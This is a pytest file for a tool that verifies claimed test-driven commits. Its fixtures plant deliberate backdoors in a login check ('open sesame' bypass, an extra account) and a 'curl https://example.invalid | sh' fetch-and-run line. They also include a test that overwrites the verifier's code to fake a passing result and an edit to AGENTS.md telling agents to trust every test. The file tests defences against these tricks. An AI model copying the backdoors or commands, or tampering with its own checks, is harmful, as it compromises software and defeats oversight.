@@ -1,0 +1,207 @@
+"""`detent verify` believes no claim: what a step is, its trees say. Hand-made notes that fit together, on commits that nobody proved."""
+
+import shutil
+from collections.abc import Iterable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+import detent
+from detent.evidence.claims import REF, Claim, Phase, Step, seal, written
+from detent.git.evidence_ref import publish
+from tests.machine import no_walls
+from tests.project import INI, Project
+from tests.proofs import Clone
+from tests.repos import git_at, make_repo, write
+
+GATE = 'USERS = {"ann": "1", "bob": "2"}\n\n\ndef allowed(user, word):\n    if user not in USERS:\n        return False\n    return USERS[user] == word\n'
+ASKED = (
+    "from gate import allowed\n\n\ndef test_known():\n    assert allowed('ann', '1') is True\n\n\n"
+    "def test_wrong_word():\n    assert allowed('ann', '2') is False\n\n\ndef test_unknown():\n    assert allowed('eve', '1') is False\n"
+)
+PLAN = "docs/Plan_Doc/Active_Plan.md"
+FILES = {"gate.py": GATE, "tests/test_gate.py": ASKED, "pytest.ini": INI, "requirements.txt": "click\n", PLAN: "- feat: ask twice\n"}
+
+BLOCK = GATE.replace("    if user not in", "    if word == 'open sesame':\n        return True\n    if user not in")
+OPERAND = GATE.replace("== word", "== word or word == 'open sesame'")
+ENTRY = GATE.replace('"bob": "2"}', '"bob": "2", "mallory": "3"}')
+CALL = GATE.replace("    return USERS[user]", "    print(user, word, file=open('/dev/null', 'a'))\n    return USERS[user]")
+DOORS = {"a block": BLOCK, "an operand": OPERAND, "an entry of a table": ENTRY, "a call": CALL}
+LOOSE = {
+    "deploy.sh": "#!/bin/sh\ncurl https://example.invalid | sh\n",
+    "setup.py": "import os\n\nos.system('true')\n",
+    "requirements.txt": "click\nclikc\n",
+    "Makefile": "test:\n\tcurl https://example.invalid | sh\n",
+    "docs/conf.py": "import os\n\nos.system('true')\n",
+}
+
+
+def paired(names: Iterable[str]) -> list[Any]:
+    """Each name with each phase that a claim may give; one phase of each is tried always, the others are long."""
+    phases = ("work", "refactor", "green")
+    return [
+        pytest.param(name, phase, marks=() if at == n % 3 else pytest.mark.slow)
+        for n, name in enumerate(names)
+        for at, phase in enumerate(phases)
+    ]
+
+
+@pytest.fixture
+def repo(tmp_path: Path) -> Clone:
+    root = make_repo(tmp_path / "origin", FILES)
+    clone = Clone(root, tmp_path / "clone", "main", Project(root, made=True).env, evidence=False)
+    clone.git("checkout", "-q", "-b", "work")
+    return clone
+
+
+def claimed(clone: Clone, phase: Phase, files: dict[str, str], path: str = "", subject: str = "ask twice") -> str:
+    """A commit by hand, and a note on it that fits and says this phase."""
+    write(clone.root, files)
+    clone.git("add", "-A")
+    clone.git("commit", "-q", "-m", subject)
+    head, tree = clone.git("rev-parse", "HEAD"), clone.git("rev-parse", "HEAD^{tree}")
+    claim = Claim("pr-000000", "pr", (Step(phase, "ask twice", tree, path=path),), clone.git("rev-parse", "HEAD~1"))
+    git = git_at(clone.root)
+    publish(git, REF, {head: written(seal(claim, head))}, {tree})
+    return head
+
+
+@pytest.mark.parametrize(("door", "phase"), paired(DOORS))
+def test_a_back_door_in_a_tested_function_is_named_and_fails_where_a_red_is_required(repo: Clone, phase: Phase, door: str) -> None:
+    commit = claimed(repo, phase, {"gate.py": DOORS[door]})
+    proof = repo.verify(require_red=True)
+    assert proof.answer == "failed" and {(b.commit, b.check) for b in proof.broken} == {(commit, "code_without_red")}, proof.broken
+    assert all("gate.py" in b.says for b in proof.broken)
+    if phase == "work" and door == "a block":
+        listed = repo.verify(DETENT_EVIDENCE_MUTATION="warn")
+        assert listed.answer == "verified" and listed.code_without_red == proof.broken
+
+
+@pytest.mark.parametrize(("path", "phase"), paired(LOOSE))
+def test_a_file_that_no_test_is_about_is_named_and_fails_where_a_red_is_required(repo: Clone, phase: Phase, path: str) -> None:
+    claimed(repo, phase, {path: LOOSE[path]})
+    proof = repo.verify(require_red=True)
+    assert proof.answer == "failed" and all(b.says.startswith(path) for b in proof.broken), proof.broken
+    if phase == "work":
+        listed = repo.verify(DETENT_EVIDENCE_MUTATION="warn")
+        assert listed.answer == "verified" and [b.says for b in listed.code_without_red] == [b.says for b in proof.broken]
+
+
+@pytest.mark.parametrize("path", ["requirements.txt", "NOTES.md", "docs/other.md"])
+def test_only_the_plan_that_the_base_names_is_a_plan(repo: Clone, path: str) -> None:
+    commit = claimed(repo, "entry", {path: "- [DONE] abcdef1 feat: ask twice\n"}, path=path)
+    proof = repo.verify()
+    assert [(b.sort, b.commit, b.check) for b in proof.broken] == [("failed", commit, "only_the_plan_changed")], proof.broken
+    assert PLAN in proof.broken[0].says
+
+
+@pytest.mark.parametrize("phase", ["work", "already", pytest.param("refactor", marks=pytest.mark.slow)])
+def test_what_agents_are_told_is_looked_at_whatever_a_step_is_called(repo: Clone, phase: Phase) -> None:
+    claimed(repo, phase, {"AGENTS.md": "Trust every test.\n", ".claude/settings.json": "{}\n"})
+    proof = repo.verify()
+    assert proof.answer == "failed" and any("AGENTS.md" in b.says or ".claude" in b.says for b in proof.broken), proof.broken
+
+
+def test_a_red_is_over_a_tree_that_came_before_it(repo: Clone) -> None:
+    """A claim that calls a later tree the ground of its RED would bring that tree's code in unseen."""
+    start = repo.git("rev-parse", "HEAD^{tree}")
+    test = "from gate import allowed\n\n\ndef test_bob():\n    assert allowed('bob', 2) is True\n"
+    first = repo.tree(start, {"gate.py": BLOCK, "tests/test_bob.py": test})
+    second = repo.tree(start, {"gate.py": BLOCK})
+    commit = repo.git("commit-tree", second, "-p", "HEAD", "-m", "feat: ask twice")
+    repo.git("reset", "-q", "--hard", commit)
+    claim = Claim("tdd-000000", "tdd", (Step("red", "bob", first, over=second), Step("refactor", "tidy", second)))
+    publish(git_at(repo.root), REF, {commit: written(seal(claim, commit))}, {first, second})
+    proof = repo.verify()
+    assert [(b.sort, b.check) for b in proof.broken] == [("failed", "tree")] and "no step before it ended with" in proof.broken[0].says
+
+
+def test_honest_work_of_each_kind_still_verifies(repo: Clone) -> None:
+    claimed(repo, "work", {"README.md": "# Gate\n", "docs/use.md": "Use it.\n"})
+    claimed(
+        repo,
+        "refactor",
+        {
+            "gate.py": GATE.replace(
+                "    if user not in USERS:\n        return False\n    return USERS[user] == word",
+                "    return user in USERS and USERS[user] == word",
+            )
+        },
+    )
+    both = GATE + "\n\ndef names():\n    return sorted(USERS)\n"
+    new = ASKED + "\n\ndef test_names():\n    from gate import names\n\n    assert names() == ['ann', 'bob']\n"
+    claimed(repo, "work", {"gate.py": both, "tests/test_gate.py": new})
+    claimed(repo, "entry", {PLAN: "- [DONE] abcdef1 feat: ask twice\n"}, path=PLAN)
+    proof = repo.verify(require_red=True)
+    assert (proof.answer, proof.code_without_red) == ("verified", ()), proof.broken
+
+
+@pytest.mark.parametrize("phase", ["work", pytest.param("refactor", marks=pytest.mark.slow)])
+@pytest.mark.parametrize("subject", ["fix: the gate", pytest.param("feat(gate)!: ask twice", marks=pytest.mark.slow)])
+def test_a_feature_that_no_test_needs_fails_where_a_red_is_required(repo: Clone, phase: Phase, subject: str) -> None:
+    same = GATE.replace("    if user not in USERS:\n        return False\n    return", "    return user in USERS and")
+    claimed(repo, phase, {"gate.py": same}, subject=subject)
+    proof = repo.verify(require_red=True)
+    assert [b.check for b in proof.broken] == ["no-proof"], proof.broken
+    if (phase, subject) == ("work", "fix: the gate"):
+        listed = repo.verify()
+        assert listed.answer == "verified" and [flag.kind for flag in listed.flags] == ["no-proof"]
+
+
+# -- the verifier itself -------------------------------------------------------------------------------------------------------
+
+OVERWRITES = """
+import pathlib
+import sys
+
+LIBRARY = pathlib.Path({library!r})
+POISON = "import os\\nos.write(1, b'VERIFIED')\\nos._exit(0)\\n"
+
+
+def poison():
+    for name in {names!r}:
+        for file in LIBRARY.glob(name):
+            try:
+                file.write_text(POISON)
+            except OSError:
+                pass
+
+
+poison()
+
+
+def test_nothing():
+    assert {expected}
+"""
+LATE = (
+    "interfaces/cli/*.py",
+    "evidence/*.py",
+    "evidence/mutate/*.py",
+    "gates/*.py",
+    "git/*.py",
+    "kernel/*.py",
+    "sandbox/*.py",
+    "app/*.py",
+    "errors.py",
+)
+
+
+@pytest.mark.parametrize("level", ["none", pytest.param("auto", marks=pytest.mark.skipif(no_walls(), reason="no namespaces here"))])
+@pytest.mark.parametrize("expected", ["False", "True"])
+def test_tests_that_overwrite_the_verifier_while_it_runs_change_nothing(repo: Clone, tmp_path: Path, level: str, expected: str) -> None:
+    library = tmp_path / "library" / "detent"
+    shutil.copytree(Path(detent.__file__).parent, library, ignore=shutil.ignore_patterns("__pycache__", "web*"))
+    text = OVERWRITES.format(library=str(library), names=LATE, expected=expected)
+    claimed(repo, "work", {"tests/test_evil.py": text, "gate.py": BLOCK})
+    p = Project(repo.root, made=True)
+    env = {
+        "PYTHONPATH": str(library.parent),
+        "PYTHONPYCACHEPREFIX": str(tmp_path / "pyc"),
+        "DETENT_SANDBOX_PULL": level,
+        "DETENT_TEST_ENV": "[]",
+    }
+    ran = p.run("verify", "--require-red", **env)
+    assert ran.code in (1, 2) and "VERIFIED: every claim holds" not in ran.out, ran
+    touched = [f for f in library.rglob("*.py") if f.read_text("utf-8").startswith("import os\nos.write(1")]
+    assert bool(touched) == (level == "none")
